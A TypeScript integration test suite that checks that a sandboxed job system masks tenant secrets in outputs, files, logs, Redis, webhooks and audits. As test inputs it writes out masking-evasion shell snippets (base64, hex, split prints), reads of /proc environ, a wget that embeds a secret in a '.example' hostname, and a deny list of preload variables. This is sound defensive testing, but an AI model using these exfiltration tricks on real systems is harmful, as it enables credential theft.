import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Berth, ExecOptions, JobOrder } from "@berth/client";
import type { JobRequestInput } from "@berth/protocol";
import Docker from "dockerode";
import { describe, expect } from "vitest";
import { Collector } from "../support/collector.ts";
import { commandLines, exposedIn, filesBelow, redisDump } from "../support/exposure.ts";
import { busybox, type TestFleet } from "../support/fleet.ts";
import { adminKey, fleetTest as test } from "../support/gateway.ts";

const secretsKey = randomBytes(32).toString("base64");
const keyed = { BERTH_SECRETS_KEY: secretsKey };
const stored = `sk-proj/${randomBytes(24).toString("base64")}+end`;
const own = `own-token-${randomBytes(18).toString("hex")}`;
const passed = `gh pass ${randomBytes(16).toString("base64url")}`;
const values = [stored, own, passed];

/** What a command prints of a variable, in every form that is masked. */
const prints = (name: string) => `
  printf '%s\\n' "$${name}"; printf '%s' "$${name}" >&2
  printf '%s' "$${name}" | base64 -w0; echo; printf 'x%s' "$${name}" | base64 -w0; echo; printf 'xy%s' "$${name}" | base64 -w0; echo
  printf '%s' "$${name}" | od -An -v -tx1 | tr -d ' \\n'; echo
  printf '%s' "$${name}" | od -An -v -tx1 | tr -d ' \\n' | tr a-f A-F; echo
  printf '%s' "$${name}" | od -An -v -tx1 | tr -d '\\n' | tr ' ' '%'; echo
  v="$${name}"; while [ -n "$v" ]; do printf '%s' "\${v%"\${v#?}"}"; v="\${v#?}"; done; echo
  printf '%s' "\${${name}%?????}"; sleep 0.4; printf '%s\\n' "\${${name}#"\${${name}%?????}"}"`;

/** An address that notes what is posted there. */
async function listener() {
  const bodies: string[] = [];
  const server = createServer(async (request, response) => {
    let text = "";
    for await (const chunk of request) text += chunk;
    bodies.push(text);
    response.end();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return { url, bodies, [Symbol.asyncDispose]: async () => void server.close().closeAllConnections() };
}

/** A worker and a client with the sealing key, one secret of each kind, and all that was said of the jobs. */
async function keyedFleet(fleet: TestFleet, env: Record<string, string> = {}) {
  const worker = await fleet.worker("worker-1", { ...busybox, ...keyed, GH_TOKEN: passed, ...env });
  const berth = fleet.client({ secretsKey });
  await berth.profiles.set("profile.default", { passthroughEnv: ["GH_TOKEN"] });
  await berth.secrets.set("acme", "OPENAI_KEY", stored);
  return { worker, berth };
}

/** The job's result and its events, as one text. */
async function publicTrace(berth: Berth, order: JobOrder): Promise<string> {
  const job = await berth.submit(order).enqueued();
  const events: unknown[] = [];
  for await (const event of job.events())
    events.push("bytes" in event ? { ...event, bytes: Buffer.from(event.bytes).toString("latin1") } : event);
  return JSON.stringify([await job.result, events]);
}

describe("secret", () => {
  test("a secret leaves by no output, file, name, search, archive, artifact, message, record, log or trace", async ({
    fleet,
    gateways,
  }) => {
    await using collector = await Collector.start();
    const { worker, berth } = await keyedFleet(fleet, { ...collector.env });
    const gateway = await gateways.start({ ...keyed, ...collector.env });
    const acme = (request: JobRequestInput, more: Partial<JobOrder> = {}) =>
      publicTrace(berth, {
        tenant: "acme" as JobOrder["tenant"],
        request,
        secrets: { OWN_TOKEN: own },
        ...more,
      });
    const exec = (command: string, more: Partial<JobOrder> & { artifacts?: string[] } = {}) => {
      const { artifacts, ...rest } = more;
      return acme({ kind: "exec", command, ...(artifacts ? { artifacts } : {}) }, rest);
    };
    const all = ["OPENAI_KEY", "OWN_TOKEN", "GH_TOKEN"];
    const texts: Record<string, string | Buffer> = {};

    // They are there: the guard below would pass on a sandbox without them.
    const lengths = await berth
      .tenant("acme")
      .exec(all.map((name) => `echo "${name}=\${#${name}}"`).join("; "), { secrets: { OWN_TOKEN: own } });
    expect(lengths.stdout).toBe(
      `OPENAI_KEY=${stored.length}\nOWN_TOKEN=${own.length}\nGH_TOKEN=${passed.length}\n`,
    );

    for (const name of all) texts[`output of ${name}`] = await exec(prints(name));
    texts.env = await exec("env; cat /proc/self/environ; set");
    texts.written = await exec(
      `for v in "$OPENAI_KEY" "$OWN_TOKEN" "$GH_TOKEN"; do
         n="$(printf %s "$v" | tr / _)"
         printf 'padding %s tail\\n' "$v" >> found.txt; printf '%s' "$v" | base64 -w0 >> found.b64
       done
       mkdir -p artifacts names; cp found.txt found.b64 artifacts/; : > "names/$OWN_TOKEN"; ln -s "$OWN_TOKEN" names/link
       head -c 300000 /dev/zero | tr '\\0' x > big.txt; printf %s "$OPENAI_KEY" >> big.txt`,
      { artifacts: ["*.txt", "names/*"] },
    );
    texts.read = await acme({ kind: "read", path: "found.txt" });
    texts["read of a long file"] = await acme({ kind: "read", path: "big.txt", as: "text" });
    texts["read as bytes"] = await acme({ kind: "read", path: "found.b64", as: "bytes" });
    texts["reads of halves"] = "";
    const halves = [9, 20].flatMap((offset) => [
      { offset, bytes: 20 },
      { offset: offset + 20, bytes: 40 },
    ]);
    for (const range of halves) {
      const half = await berth.tenant("acme").read("found.txt", { as: "bytes", ...range });
      texts["reads of halves"] += Buffer.from(half.content ?? "", "base64").toString("latin1");
    }
    texts.grep = await acme({ kind: "grep", pattern: "padding" });
    texts.glob = await acme({ kind: "glob", patterns: ["names/*"] });
    texts.list = await acme({ kind: "list", recursive: true });
    texts.link = await acme({ kind: "stat", path: "names/link" });
    const archive = await berth.tenant("acme").archive("out");
    texts.archive = Buffer.from(archive.content ?? "", "base64");
    texts.patch = await acme({
      kind: "patch",
      diff: "--- a/found.txt\n+++ b/found.txt\n@@ -1,1 +1,1 @@\n-something else\n+x\n",
    });
    texts["missing program"] = await acme({ kind: "exec", argv: ["sh", "-c", 'exec "/nowhere/$OWN_TOKEN"'] });
    texts["dead letter"] = await exec('echo "$OPENAI_KEY"; exit 3', { retry: { attempts: 2, backoffMs: 0 } });
    await expect.poll(() => berth.deadLetters.list()).toHaveLength(1);
    texts["dead letters"] = JSON.stringify(await berth.deadLetters.list());

    // Over HTTP, with the board's pages.
    const job = await gateway.call("POST", "/v1/jobs?wait=60", {
      body: {
        tenant: "acme",
        request: { kind: "exec", command: prints("OWN_TOKEN") },
        secrets: { OWN_TOKEN: own },
      },
    });
    expect(job.status).toBe(200);
    texts.http = JSON.stringify(job.body);
    const wrong = await gateway.call("PUT", "/v1/tenants/acme/secrets/LD_PRELOAD", { body: { value: own } });
    expect(wrong.status).toBe(400);
    texts["refused by http"] = JSON.stringify(wrong.body);
    texts.audit = JSON.stringify((await gateway.call("GET", "/v1/audit")).body);
    const login = await fetch(`${gateway.url}/board/login`, {
      method: "POST",
      redirect: "manual",
      headers: { "content-type": "application/x-www-form-urlencoded", origin: gateway.url },
      body: `key=${adminKey}`,
    });
    const headers = { cookie: login.headers.get("set-cookie")?.split(";")[0] ?? "" };
    const board = await fetch(`${gateway.url}/board/api/queues?activeQueue=tenants%3Aacme&status=latest`, {
      headers,
    });
    expect(board.status).toBe(200);
    texts.board = await board.text();

    // While a command runs that has them.
    const running = await berth
      .tenant("acme")
      .exec("sleep 30", { session: "running", secrets: { OWN_TOKEN: own } })
      .enqueued();
    await expect.poll(() => running.status()).toBe("running");
    Object.assign(texts, await commandLines());
    const docker = new Docker();
    for (const { id } of await fleet.containers())
      texts[`container ${id}`] = JSON.stringify(await docker.getContainer(id).inspect());
    texts["another session"] = await exec("cat /proc/[0-9]*/environ", { session: "other" as never });
    await running.cancel();
    Object.assign(texts, await redisDump(fleet), await filesBelow(join(fleet.workspaces, "../artifacts")));
    await gateway.stop();
    await worker.stopped(30_000);
    Object.assign(texts, {
      worker: worker.log,
      gateway: gateway.log + gateway.errors,
      traces: collector.bytes,
    });
    expect(collector.bytes.length).toBeGreaterThan(0);
    expect(exposedIn(texts, values)).toEqual([]);
    expect(texts.read).toContain('"scrubbed":3');
    expect(texts["another session"]).toContain(`OWN_TOKEN=${"*".repeat(own.length)}`);
  });

  test("a secret does not leave by a batch's report, results and webhook, nor by the preview of an approval and its webhook", async ({
    fleet,
    gateways,
  }) => {
    await using hook = await listener();
    const { worker, berth } = await keyedFleet(fleet, { BERTH_APPROVAL_WEBHOOK: hook.url });
    const gateway = await gateways.start({ ...keyed, BERTH_WEBHOOK_ALLOW: "127.0.0.0/8" });
    const command = prints("OWN_TOKEN");
    const jobs = [0, 1].map((index) => ({
      tenant: "acme",
      request: { kind: "exec", command: index === 0 ? command : `${command}; exit 3` },
      secrets: { OWN_TOKEN: own },
    }));
    const made = await gateway.call("POST", "/v1/batches", { body: { jobs, webhook: hook.url } });
    expect(made.status).toBe(202);
    await expect.poll(() => hook.bodies.length, { timeout: 60_000 }).toBe(1);
    const { id } = made.body;
    const texts: Record<string, string | Buffer> = {};
    texts.batch = JSON.stringify((await gateway.call("GET", `/v1/batches/${id}`)).body);
    texts.results = await (await gateway.fetch("GET", `/v1/batches/${id}/results`)).text();
    expect(texts.results).toContain("*".repeat(own.length));

    await berth.profiles.set("tenant.acme", { rules: [{ approval: { commands: ["deploy"] } }] });
    const waiting = await berth
      .tenant("acme")
      .exec(`deploy ${own} ${stored}`, { env: { A: own }, stdin: stored, secrets: { OWN_TOKEN: own } })
      .enqueued();
    await expect.poll(() => hook.bodies.length).toBe(2);
    const shown = await gateway.call("GET", `/v1/approvals/${waiting.id}`);
    expect(shown.body.whole).toContain(`deploy ${"*".repeat(own.length)}`);
    texts.approval = JSON.stringify([shown.body, await berth.approvals.list()]);
    await waiting.cancel();
    // The request itself has them in clear, as its submitter wrote it: so are they in its queue.
    texts.hooks = hook.bodies.join("\n");
    await worker.stopped(30_000);
    Object.assign(texts, { worker: worker.log, gateway: gateway.log + gateway.errors });
    expect(exposedIn(texts, values)).toEqual([]);
  });

  test("a secret in the name of a host that a command asks for is in no result, log or audit", async ({
    fleet,
    gateways,
  }) => {
    const { worker, berth } = await keyedFleet(fleet);
    const token = randomBytes(10).toString("hex");
    const mixed = `Upper${token.slice(0, 12)}Case`;
    await berth.secrets.set("acme", "HOST_KEY", token);
    await berth.secrets.set("acme", "MIXED_KEY", mixed);
    await berth.profiles.set("profile.default", { passthroughEnv: ["GH_TOKEN"], egress: ["127.0.0.1:9"] });
    const gateway = await gateways.start(keyed);
    const asks = (name: string) => `wget -q -O- "http://$${name}.example/" 2>&1`;
    const result = await berth.tenant("acme").exec(`${asks("HOST_KEY")}; ${asks("MIXED_KEY")}; true`);
    expect(result.egress?.hosts).toMatchObject([{ denied: 1 }, { denied: 1 }]);
    await expect
      .poll(async () => JSON.stringify((await gateway.call("GET", "/v1/audit/egress?tenant=acme")).body))
      .toContain(".example");
    await worker.stopped(30_000);
    const texts = {
      result: JSON.stringify(result),
      audit: JSON.stringify((await gateway.call("GET", "/v1/audit/egress?tenant=acme")).body),
      worker: worker.log,
      ...(await redisDump(fleet)),
    };
    expect(exposedIn(texts, [token, mixed])).toEqual([]);
    // The proxy names hosts in lower case. In output that is not a form of the value that is masked.
    const { audit, worker: log } = texts;
    const lower = mixed.toLowerCase();
    expect(exposedIn({ audit, log, use: JSON.stringify(result.egress) }, [lower])).toEqual([]);
  });

  test("a secret that one step of a job begins to print and the next one ends is in no text of both", async ({
    fleet,
  }) => {
    const { berth } = await keyedFleet(fleet);
    const exec = (command: string) => ({ kind: "exec" as const, command });
    const job = await berth
      .tenant("acme")
      .steps(
        [
          exec(`printf %s "\${OWN_TOKEN%????????}"`),
          exec(`printf %s "\${OWN_TOKEN#"\${OWN_TOKEN%????????}"}" >&2`),
        ],
        { secrets: { OWN_TOKEN: own } },
      )
      .enqueued();
    const output: Buffer[] = [];
    for await (const event of job.events())
      if (event.type === "stdout" || event.type === "stderr") output.push(Buffer.from(event.bytes));
    const text = Buffer.concat(output).toString();
    expect(text).toHaveLength(own.length);
    expect(text).toContain("********");
    expect(text).not.toContain(own);
  });

  test("a secret that a set-up command prints is masked in the job's end, in Redis and in logs", async ({
    fleet,
  }) => {
    const { worker, berth } = await keyedFleet(fleet);
    const acme = berth.tenant("acme");
    await acme.exec('printf %s "$OPENAI_KEY" > key; base64 -w0 < key > key.b64');
    const print = "cat key; cat key.b64 >&2; head -c 3 key; sleep 0.4; tail -c +4 key >&2";
    for (const end of ["true", "false"]) {
      await berth.profiles.set("profile.default", {
        passthroughEnv: ["GH_TOKEN"],
        setup: { command: `${print}; ${end}` },
      });
      const result = await acme.exec("true");
      if (end === "false") expect(result.outcome).toMatchObject({ kind: "refused", code: "setup-failed" });
      const texts = { result: JSON.stringify(result), worker: worker.log, ...(await redisDump(fleet)) };
      expect(exposedIn(texts, values)).toEqual([]);
      expect(JSON.stringify(await redisDump(fleet).then((all) => Object.values(all).join()))).toContain(
        "***",
      );
    }
  });

  test("no tenant gets another tenant's secret, neither in its environment nor by a stolen sealed value", async ({
    fleet,
  }) => {
    const { berth } = await keyedFleet(fleet);
    const beta = await berth.tenant("beta").exec("env");
    expect(beta.stdout).not.toMatch(/OPENAI_KEY/);
    const redis = fleet.redis.connect();
    const sealed = (await redis.hget("berth:{acme}:secrets", "OPENAI_KEY")) ?? "";
    expect(sealed).toMatch(/^s1\./);
    await redis.hset("berth:{beta}:secrets", "OPENAI_KEY", sealed);
    // A name that was not read before: the worker has not heard of this change.
    await redis.publish("berth:control", JSON.stringify({ type: "secrets", tenant: "beta" }));
    await expect
      .poll(async () => (await berth.tenant("beta").exec("env")).outcome)
      .toMatchObject({ kind: "refused", code: "secret-unreadable" });
    const inShared = await berth.tenant("acme").exec("env", { scope: "shared" });
    expect(inShared.stdout).not.toContain("OPENAI_KEY");
    const ownInShared = await berth
      .tenant("acme")
      .exec("env", { scope: "shared", secrets: { OWN_TOKEN: own } });
    expect(ownInShared.outcome).toMatchObject({ kind: "refused", code: "secret-refused" });
  });

  test("a secret is refused, and not sent in clear, where there is no key", async ({ fleet }) => {
    await fleet.worker("worker-1", busybox);
    const keyless = fleet.client();
    const withOwn: ExecOptions = { secrets: { OWN_TOKEN: own } };
    await expect(keyless.tenant("acme").exec("true", withOwn)).rejects.toMatchObject({
      code: "secrets-unavailable",
    });
    await expect(keyless.secrets.set("acme", "OPENAI_KEY", stored)).rejects.toMatchObject({
      code: "secrets-unavailable",
    });
    const refused = await fleet.client({ secretsKey }).tenant("acme").exec("env", withOwn);
    expect(refused.outcome).toMatchObject({ kind: "refused", code: "secrets-unavailable" });
    expect(exposedIn(await redisDump(fleet), values)).toEqual([]);
  });

  test("edits and ifMatch work on the true bytes of a file whose reads are masked", async ({ fleet }) => {
    const { berth } = await keyedFleet(fleet);
    const acme = berth.tenant("acme");
    await acme.exec('printf "key=%s\\ncolour=red\\n" "$OPENAI_KEY" > settings');
    const read = await acme.read("settings");
    expect(read).toMatchObject({ content: `key=${"*".repeat(stored.length)}\ncolour=red\n`, scrubbed: 1 });
    expect((await acme.edit("settings", "red", "blue")).outcome).toEqual({ kind: "done" });
    const same = await acme.exec('[ "$(head -1 settings)" = "key=$OPENAI_KEY" ] && tail -1 settings');
    expect(same.stdout).toBe("colour=blue\n");
    const { sha256 = "" } = await acme.read("settings");
    expect((await acme.write("settings", "new", { ifMatch: sha256 })).outcome).toEqual({ kind: "done" });
  });

  test("a secret that is unknown but looks like a key is reported by its fingerprint or masked, as the profile says", async ({
    fleet,
  }) => {
    const { worker, berth } = await keyedFleet(fleet);
    const leaked = `ghp_${randomBytes(30).toString("hex").slice(0, 36)}`;
    await berth.tenant("acme").write("leak", `token ${leaked}\n`);
    const print = "cat leak; base64 leak";
    const report = await berth.tenant("acme").exec(print, { settings: { leaks: "report" } });
    expect(report.stdout).toContain(leaked);
    const block = await berth.tenant("acme").exec(print, { settings: { leaks: "block" } });
    expect(block.outcome).toEqual({ kind: "exited", code: 0 });
    expect(block.stdout).toContain(`token ${"*".repeat(leaked.length)}\n`);
    expect(exposedIn({ stdout: block.stdout }, [leaked])).toEqual([]);
    const read = await berth.tenant("acme").read("leak", { settings: { leaks: "block" } });
    expect(read.content).toBe(`token ${"*".repeat(leaked.length)}\n`);
    await expect.poll(() => worker.log).toMatch(/"event":"job.leaked".*"kind":"github".*"blocked":true/);
    expect(worker.log).not.toContain(leaked);
    await berth.profiles.set("fleet", { leaks: "block" });
    await expect
      .poll(async () => (await berth.tenant("acme").exec("true", { settings: { leaks: "off" } })).outcome)
      .toMatchObject({ kind: "refused", code: "not-allowed" });
  });

  test("a secret with a name that no program may be given is refused with that name", async ({ fleet }) => {
    const { berth } = await keyedFleet(fleet);
    for (const name of [
      "ENV",
      "LD_PRELOAD",
      "DYLD_INSERT_LIBRARIES",
      "NODE_OPTIONS",
      "BASH_ENV",
      "PYTHONSTARTUP",
    ]) {
      await expect(berth.secrets.set("acme", name, own)).rejects.toThrow(name);
      await expect(berth.tenant("acme").exec("true", { env: { [name]: "x" } })).rejects.toThrow(name);
      await expect(berth.profiles.set("fleet", { env: { [name]: "x" } })).rejects.toThrow(name);
    }
    for (const name of ["BERTH_SECRETS_KEY", "REDIS_URL", "DOCKER_HOST"])
      await expect(berth.profiles.set("profile.default", { passthroughEnv: [name] })).rejects.toThrow(name);
    await expect(berth.profiles.set("tenant.acme", { passthroughEnv: ["HOME"] } as never)).rejects.toThrow();
  });
});
